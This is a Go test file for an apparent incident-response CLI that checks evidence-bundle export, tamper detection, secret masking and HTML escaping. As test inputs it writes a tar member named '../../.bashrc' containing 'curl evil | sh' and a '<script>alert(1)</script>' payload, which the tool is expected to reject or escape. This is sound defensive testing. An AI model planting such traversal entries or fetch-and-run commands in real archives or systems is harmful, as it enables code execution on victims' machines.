package cli_test

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"image"
	"image/color"
	"image/png"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// evidenceIncident makes a data dir with a note, an attached log and an attached PNG (as a
// screenshot would be), and returns the PNG's bytes.
func evidenceIncident(t *testing.T) (dir string, shot []byte) {
	t.Helper()
	dir, _ = newIncident(t)
	ok(t, dir, "note", "phishing mail reported by <b>finance</b>")
	files := t.TempDir()
	log := filepath.Join(files, "edge.log")
	os.WriteFile(log, []byte("203.0.113.7 POST /login 401\n"), 0o644)
	ok(t, dir, "attach", log)
	img := image.NewRGBA(image.Rect(0, 0, 120, 80))
	for x := range 120 {
		for y := range 80 {
			img.Set(x, y, color.RGBA{uint8(2 * x), uint8(3 * y), 0x80, 0xff})
		}
	}
	var buf bytes.Buffer
	png.Encode(&buf, img)
	shot = buf.Bytes()
	pngPath := filepath.Join(files, "screenshot-20261123-140211.png")
	os.WriteFile(pngPath, shot, 0o644)
	ok(t, dir, "attach", pngPath)
	return dir, shot
}

// headOf returns the incident's head as the data dir's verify reports it.
func headOf(t *testing.T, dir string) (int64, string) {
	t.Helper()
	var res struct {
		Incidents []struct {
			Revisions int64  `json:"revisions"`
			Head      string `json:"head"`
		} `json:"incidents"`
	}
	if err := json.Unmarshal([]byte(ok(t, dir, "verify", "--json")), &res); err != nil || len(res.Incidents) != 1 {
		t.Fatalf("verify --json: %v %+v", err, res)
	}
	return res.Incidents[0].Revisions, res.Incidents[0].Head
}

// bundleMember is one file of a bundle, as a test reads or rewrites it.
type bundleMember struct {
	hdr  tar.Header
	data []byte
}

func readBundle(t *testing.T, path string) []bundleMember {
	t.Helper()
	f, err := os.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	gz, err := gzip.NewReader(f)
	if err != nil {
		t.Fatalf("the bundle is not gzip: %v", err)
	}
	tr := tar.NewReader(gz)
	var ms []bundleMember
	for {
		hdr, err := tr.Next()
		if err == io.EOF {
			return ms
		} else if err != nil {
			t.Fatal(err)
		}
		data, _ := io.ReadAll(tr)
		ms = append(ms, bundleMember{*hdr, data})
	}
}

func writeBundle(t *testing.T, path string, ms []bundleMember) {
	t.Helper()
	var buf bytes.Buffer
	gz := gzip.NewWriter(&buf)
	tw := tar.NewWriter(gz)
	for _, m := range ms {
		hdr := m.hdr
		hdr.Size = int64(len(m.data))
		tw.WriteHeader(&hdr)
		tw.Write(m.data)
	}
	tw.Close()
	gz.Close()
	if err := os.WriteFile(path, buf.Bytes(), 0o600); err != nil {
		t.Fatal(err)
	}
}

// notCreated fails if path exists: checking a bundle needs no data dir and must not make one.
func notCreated(t *testing.T, path string) {
	t.Helper()
	if _, err := os.Stat(path); !os.IsNotExist(err) {
		t.Errorf("%s was created (%v)", path, err)
	}
}

func TestExportBundle(t *testing.T) {
	dir, shot := evidenceIncident(t)
	seq, head := headOf(t, dir)
	bundle := filepath.Join(t.TempDir(), "incident.tar.gz")
	r := run(t, dir, "", "export", "--format", "bundle", "-o", bundle)
	if r.code != 0 || !strings.Contains(r.stdout, "2 evidence files") || !strings.Contains(r.stdout, head) {
		t.Fatalf("export --format bundle: exit %d, %q, %q", r.code, r.stdout, r.stderr)
	}
	if left, _ := os.ReadDir(filepath.Dir(bundle)); len(left) != 1 {
		t.Errorf("the export left files beside the bundle: %v", left)
	}

	// Checked on a machine with no Blotter data: nothing is created.
	fresh := filepath.Join(t.TempDir(), "no-data-here")
	r = run(t, fresh, "", "verify", "--bundle", bundle)
	want := "the bundle checks out: " + itoa(seq) + " revisions, head " + head + ", 2 evidence files\n"
	if r.code != 0 || r.stdout != want {
		t.Errorf("verify --bundle: exit %d, stdout %q, stderr %q; want %q", r.code, r.stdout, r.stderr, want)
	}
	notCreated(t, fresh)

	// Its members: the record, the two files, the manifest; the screenshot is byte for byte.
	ms := readBundle(t, bundle)
	if len(ms) != 4 || ms[0].hdr.Name != "record.json" || ms[3].hdr.Name != "manifest.json" {
		t.Fatalf("the bundle holds %d members: %v", len(ms), ms)
	}
	found := false
	for _, m := range ms {
		found = found || bytes.Equal(m.data, shot)
	}
	if !found {
		t.Error("the screenshot is not in the bundle as it was attached")
	}

	// record.json is the JSON export: it imports elsewhere and verifies, with the same head.
	record := filepath.Join(t.TempDir(), "record.json")
	os.WriteFile(record, ms[0].data, 0o600)
	next := filepath.Join(t.TempDir(), "next")
	ok(t, next, "import", record)
	ok(t, next, "verify")
	if s, h := headOf(t, next); s != seq || h != head {
		t.Errorf("the imported record ends at %d %s, the original at %d %s", s, h, seq, head)
	}

	// A screenshot byte changed, and the manifest rewritten to match: refused, and why.
	for i, m := range ms {
		if bytes.Equal(m.data, shot) {
			ms[i].data = bytes.Clone(shot)
			ms[i].data[len(shot)/2] ^= 0xff
		}
	}
	var manifest map[string]any
	json.Unmarshal(ms[3].data, &manifest)
	for _, x := range manifest["members"].([]any) {
		mm := x.(map[string]any)
		for _, m := range ms {
			if m.hdr.Name == mm["name"] {
				mm["sha256"] = sha256hex(m.data)
			}
		}
	}
	ms[3].data, _ = json.Marshal(manifest)
	tampered := filepath.Join(t.TempDir(), "tampered.tar.gz")
	writeBundle(t, tampered, ms)
	r = run(t, fresh, "", "verify", "--bundle", tampered)
	if r.code != 1 || !strings.Contains(r.stderr, "has been altered") || !strings.Contains(r.stderr, "screenshot-20261123-140211.png") || strings.Contains(r.stdout, "checks out") {
		t.Errorf("verify --bundle of a tampered bundle: exit %d, stdout %q, stderr %q", r.code, r.stdout, r.stderr)
	}
	notCreated(t, fresh)

	// A member that climbs out of the bundle's folder.
	writeBundle(t, tampered, append([]bundleMember{ms[0], {tar.Header{Name: "../../.bashrc", Typeflag: tar.TypeReg, Mode: 0o644}, []byte("curl evil | sh\n")}}, ms[1:]...))
	if r = run(t, fresh, "", "verify", "--bundle", tampered); r.code != 1 || !strings.Contains(r.stderr, `"../../.bashrc" climbs out`) {
		t.Errorf("verify --bundle with ../: exit %d, %q", r.code, r.stderr)
	}
	if r = run(t, fresh, "", "verify", "--bundle", filepath.Join(t.TempDir(), "absent.tar.gz")); r.code != 66 {
		t.Errorf("verify --bundle of no file: exit %d, %q", r.code, r.stderr)
	}
	notCreated(t, fresh)
}

func sha256hex(b []byte) string {
	sum := sha256.Sum256(b)
	return hex.EncodeToString(sum[:])
}

func itoa(n int64) string {
	b, _ := json.Marshal(n)
	return string(b)
}

func TestExportBundleRefusesWhereItCannotGo(t *testing.T) {
	dir, _ := evidenceIncident(t)
	if r := run(t, dir, "", "export", "--format", "bundle"); r.code != 65 || !strings.Contains(r.stderr, "-o FILE") {
		t.Errorf("a bundle to standard output: exit %d, %q", r.code, r.stderr)
	}
	for _, target := range []string{filepath.Join(dir, "vault", "b.tar.gz"), filepath.Join(dir, "blotter.db")} {
		if r := run(t, dir, "", "export", "--format", "bundle", "-o", target); r.code != 65 || !strings.Contains(r.stderr, "inside Blotter's data dir") {
			t.Errorf("export -o %s: exit %d, %q", target, r.code, r.stderr)
		}
	}
	ok(t, dir, "verify")
}

// TestExportBundleMissingEvidence: evidence the record names but this machine does not hold is
// listed as missing: the bundle is written, the export says so and exits 1, and the bundle's
// check reports it.
func TestExportBundleMissingEvidence(t *testing.T) {
	dir, shot := evidenceIncident(t)
	sum := sha256hex(shot)
	if err := os.Remove(filepath.Join(dir, "vault", sum[:2], sum)); err != nil {
		t.Fatal(err)
	}
	bundle := filepath.Join(t.TempDir(), "incident.tar.gz")
	r := run(t, dir, "", "export", "--format", "bundle", "-o", bundle)
	if r.code != 1 || !strings.Contains(r.stderr, "evidence "+sum+" (screenshot-20261123-140211.png) is named by the record but not held here") {
		t.Fatalf("export: exit %d, %q", r.code, r.stderr)
	}
	var manifest struct {
		Missing []struct {
			SHA256 string `json:"sha256"`
		} `json:"missing"`
	}
	ms := readBundle(t, bundle)
	if err := json.Unmarshal(ms[len(ms)-1].data, &manifest); err != nil || len(manifest.Missing) != 1 || manifest.Missing[0].SHA256 != sum {
		t.Errorf("the manifest's missing list: %+v %v", manifest, err)
	}
	fresh := filepath.Join(t.TempDir(), "none")
	if r := run(t, fresh, "", "verify", "--bundle", bundle); r.code != 1 || !strings.Contains(r.stderr, "did not hold it") {
		t.Errorf("verify --bundle: exit %d, %q", r.code, r.stderr)
	}
	notCreated(t, fresh)
}

func TestExportTimesketchAndHTML(t *testing.T) {
	dir, shot := evidenceIncident(t)
	ok(t, dir, "note", "key AKIAIOSFODNN7EXAMPLE in the dropper <script>alert(1)</script>")
	out := ok(t, dir, "export", "--format", "timesketch")
	lines := strings.Split(out, "\n")
	if len(lines) != 4 {
		t.Fatalf("%d lines, want one per entry:\n%s", len(lines), out)
	}
	for _, line := range lines {
		var ev map[string]any
		if err := json.Unmarshal([]byte(line), &ev); err != nil {
			t.Fatalf("not JSON: %v\n%s", err, line)
		}
		if ev["message"] == "" || ev["datetime"] == nil || ev["timestamp"] == nil || ev["timestamp_desc"] != "Occurred" {
			t.Errorf("line lacks Timesketch's fields: %s", line)
		}
	}
	if strings.Contains(out, "AKIAIOSFODNN7EXAMPLE") {
		t.Error("the Timesketch export is not masked")
	}

	page := filepath.Join(t.TempDir(), "report.html")
	ok(t, dir, "export", "--format", "html", "-o", page)
	data, _ := os.ReadFile(page)
	html := string(data)
	for _, want := range []string{"Content-Security-Policy", "&lt;script&gt;alert(1)&lt;/script&gt;", "data:image/png;base64,", sha256hex(shot), "[REDACTED"} {
		if !strings.Contains(html, want) {
			t.Errorf("the HTML report lacks %q", want)
		}
	}
	if strings.Contains(html, "<script") || strings.Contains(html, "AKIAIOSFODNN7EXAMPLE") {
		t.Error("the HTML report holds a script or an unmasked secret")
	}
	if unmasked := ok(t, dir, "export", "--format", "html", "--unmasked"); !strings.Contains(unmasked, "AKIAIOSFODNN7EXAMPLE") {
		t.Error("--unmasked HTML does not hold the secret")
	}
}
